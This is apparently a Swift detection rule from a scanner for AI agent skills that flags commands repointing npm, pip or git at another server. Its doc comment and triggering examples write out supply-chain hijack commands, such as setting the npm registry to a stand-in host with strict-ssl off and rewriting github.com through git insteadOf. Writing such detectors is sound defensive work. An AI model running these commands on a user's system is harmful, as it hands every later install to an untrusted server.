import SkillScanCore

/// Commands that repoint the user's package managers or git at another server for good:
/// `npm config set registry https://npm.pkgrelay.dev/`, `pip config set global.index-url …`,
/// `git config --global url."https://git.pkgrelay.dev/".insteadOf "https://github.com/"`,
/// with certificate checks switched off (`strict-ssl false`, `global.trusted-host`).
///
/// Every later install and clone, in every project, then comes from that server: the supply
/// chain itself is replaced (taxonomy.md SC2, §5.11). A company mirror set up on purpose is
/// one redirection over TLS and is reported at medium; the attack shape is a redirection
/// paired with verification switched off, two ecosystems sent to one unknown host, or
/// GitHub rewritten to another host, which is high and a download-execute chain.
struct PackageSourceHijackRule: Rule {
  static let description = RuleDescription(
    id: "package-source-hijack",
    name: "Package sources or git remotes redirected",
    pattern: .sc2,
    severity: .medium,
    confidence: .high,
    languages: [.shell, .markdown, .text, .yaml, .json, .toml, .python, .javascript],
    summary: "A command points npm, pip or git at another server for every later install or clone.",
    rationale: """
      Global registry, index and `insteadOf` settings outlive the skill: every package and \
      repository the user fetches afterwards, in any project, comes from the server they name. \
      Turning off certificate checks for it, or rewriting github.com to it, lets that server \
      serve modified code for everything.
      """,
    remediation: "Do not change global package or git sources; pass a registry for one command if it is needed.",
    references: [.owaspLLM(3), .owaspASI(4), .cwe(494), .cwe(295), .taxonomy("SC2"), .taxonomy("5.11")],
    keywords: ["config set", "insteadof", "strict-ssl", "trusted-host", "npmregistryserver", "sslverify", "global.index-url", "set registry"],
    triggeringExamples: [
      Example(
        "fix: >-\n  ↓npm config set registry https://npm.pkgrelay.dev/ &&\n  npm config set strict-ssl false\n",
        language: .yaml, path: "devenv.yaml"),
      Example("↓git config --global url.\"https://git.pkgrelay.dev/\".insteadOf \"https://github.com/\"\n", language: .shell),
    ],
    nonTriggeringExamples: [
      Example("npm config set registry https://registry.npmjs.org/\n", language: .shell, note: "the official registry"),
      Example("git config --global url.\"git@github.com:\".insteadOf \"https://github.com/\"\n", language: .shell, note: "GitHub over SSH"),
      Example(
        "Never run `npm config set registry https://npm.mirror-proxy.dev/` or `npm config set strict-ssl false` to get past a proxy.\n",
        language: .markdown, note: "advice against it"),
      Example("git config --global url.\"https://github.com/\".insteadOf \"git@github.com:\"\n", language: .shell, note: "SSH remotes fetched from GitHub over HTTPS"),
    ]
  )

  static let gateWords = [
    "config set", "insteadof", "strict-ssl", "trusted-host", "npmregistryserver", "sslverify", "global.index-url", "set registry",
  ]
  static let gate = KeywordFilter(keywords: gateWords)

  /// Official sources: setting one of these back is a repair, not a redirection.
  /// Well-known public mirrors (npmmirror, Tsinghua, Aliyun, Tencent, Huawei) are how many
  /// users in China install at all, and are documented as such; they count as official.
  static let officialHosts = [
    "registry.npmjs.org", "registry.yarnpkg.com", "npm.pkg.github.com", "pypi.org", "pypi.python.org",
    "files.pythonhosted.org", "github.com", "gitlab.com", "bitbucket.org",
    "registry.npmmirror.com", "registry.npm.taobao.org", "pypi.tuna.tsinghua.edu.cn", "mirrors.aliyun.com",
    "mirrors.cloud.tencent.com", "repo.huaweicloud.com", "mirrors.ustc.edu.cn",
  ]

  struct Line {
    var range: Range<Int>
    var text: String
    /// Where the line's first setting word starts: findings point there, not at the indent.
    var at: Int
  }

  func check(file: AnalyzedFile, in skill: AnalyzedSkill, into sink: inout FindingSink) {
    let bytes = file.bytes
    guard Self.gate.occurs(in: bytes, range: 0..<bytes.count) else { return }
    var redirects: [(line: Line, host: String, what: String)] = []
    var unverified: Line?
    var rewritesGitHub: Line?
    for line in Self.lines(bytes) {
      // Advice against it ("never run `npm config set …`"), read at the setting itself.
      if file.source.language == .markdown, ProsePolarity.classify(file, at: line.at..<(line.at + 1)) == .prohibitive { continue }
      let text = line.text
      if ByteSearch.contains(text, "strict-ssl false") || ByteSearch.contains(text, "strict-ssl=false")
        || ByteSearch.contains(text, "trusted-host") || ByteSearch.contains(text, "sslverify false")
        || ByteSearch.contains(text, "sslverify=false")
      {
        unverified = unverified ?? line
      }
      if ByteSearch.contains(text, "insteadof"), let rewrite = Self.gitRewrite(text) {
        rewritesGitHub = rewritesGitHub ?? line
        redirects.append((line, rewrite, "git"))
      }
      for (marker, what) in Self.sourceSettings where ByteSearch.contains(text, marker) {
        guard let host = Self.host(after: marker, in: text), !Self.isOfficial(host) else { continue }
        redirects.append((line, host, what))
      }
    }
    guard let first = redirects.first else { return }
    let hosts = Set(redirects.map(\.host))
    let ecosystems = Set(redirects.map(\.what))
    // Two ecosystems sent to one organisation's servers (`npm.x.dev`, `pypi.x.dev`).
    let domains = Set(hosts.map { $0.split(separator: ".").suffix(2).joined(separator: ".") })
    let hijack = unverified != nil || rewritesGitHub != nil || (ecosystems.count >= 2 && domains.count == 1)
    var message = "sets \(ecosystems.sorted().joined(separator: ", ")) to fetch from \(hosts.sorted().prefix(3).joined(separator: ", ")) for every later install"
    if rewritesGitHub != nil { message += ", rewrites github.com to it" }
    if unverified != nil { message += ", with certificate checks switched off" }
    sink.report(
      message, in: file, at: first.line.at..<first.line.range.upperBound, severity: hijack ? .high : .medium, chain: hijack ? .downloadExecute : nil)
  }

  /// Settings whose value is a package source: the text before the URL, and the ecosystem.
  static let sourceSettings: [(String, String)] = [
    ("config set registry", "npm"), ("set registry", "npm"), ("npmregistryserver", "yarn"),
    ("global.index-url", "pip"), ("global.extra-index-url", "pip"), ("config set index-url", "pip"),
  ]

  /// The host of the first URL after `marker` in `text`.
  static func host(after marker: String, in text: String) -> String? {
    guard let rest = after(marker, in: text), let afterScheme = after("://", in: rest) else { return nil }
    let host = afterScheme.prefix { $0 != "/" && $0 != ":" && $0 != " " && $0 != "\"" && $0 != "'" }
    return host.isEmpty ? nil : String(host)
  }

  /// The text after the first `marker` in `text`.
  static func after(_ marker: String, in text: String) -> String? {
    let bytes = Array(text.utf8)
    guard let at = ByteSearch.firstIndex(of: Array(marker.utf8), in: bytes) else { return nil }
    return String(decoding: bytes[(at + marker.utf8.count)...], as: UTF8.self)
  }

  /// The host GitHub (or another official host) is rewritten to by `url.<X>.insteadOf <Y>`,
  /// when `<X>` is another host over HTTPS or HTTP; SSH forms of the same host are not one.
  static func gitRewrite(_ text: String) -> String? {
    guard let afterURL = after("url.", in: text) else { return nil }
    let target = afterURL.drop { $0 == "\"" || $0 == "'" }
    guard target.hasPrefix("https://") || target.hasPrefix("http://"), let rest = target.split(separator: "/", maxSplits: 3).dropFirst().first
    else { return nil }
    let host = String(rest)
    guard !isOfficial(host), let original = after("insteadof", in: text) else { return nil }
    return officialHosts.contains(where: { ByteSearch.contains(original, $0) }) ? host : nil
  }

  static func isOfficial(_ host: String) -> Bool {
    officialHosts.contains { host == $0 || host.hasSuffix("." + $0) }
  }

  /// The lines that hold a setting's words, lower-cased, at most 4 KiB of each and 64 lines:
  /// only those are decoded.
  static func lines(_ bytes: [UInt8]) -> [Line] {
    var out: [Line] = []
    var start = 0
    while start < bytes.count, out.count < 64 {
      var end = start
      while end < bytes.count, bytes[end] != 0x0A { end += 1 }
      let cut = min(end, start + 4_096)
      var first: Int?
      bytes.withUnsafeBufferPointer { buffer in
        gate.forEachPosition(in: UnsafeBufferPointer(rebasing: buffer[start..<cut])) { keyword, end in
          first = start + end - gateWords[keyword].utf8.count
          return false
        }
      }
      if let first {
        out.append(Line(range: start..<cut, text: String(decoding: bytes[start..<cut].map(KeywordFilter.fold), as: UTF8.self), at: first))
      }
      start = end + 1
    }
    return out
  }
}
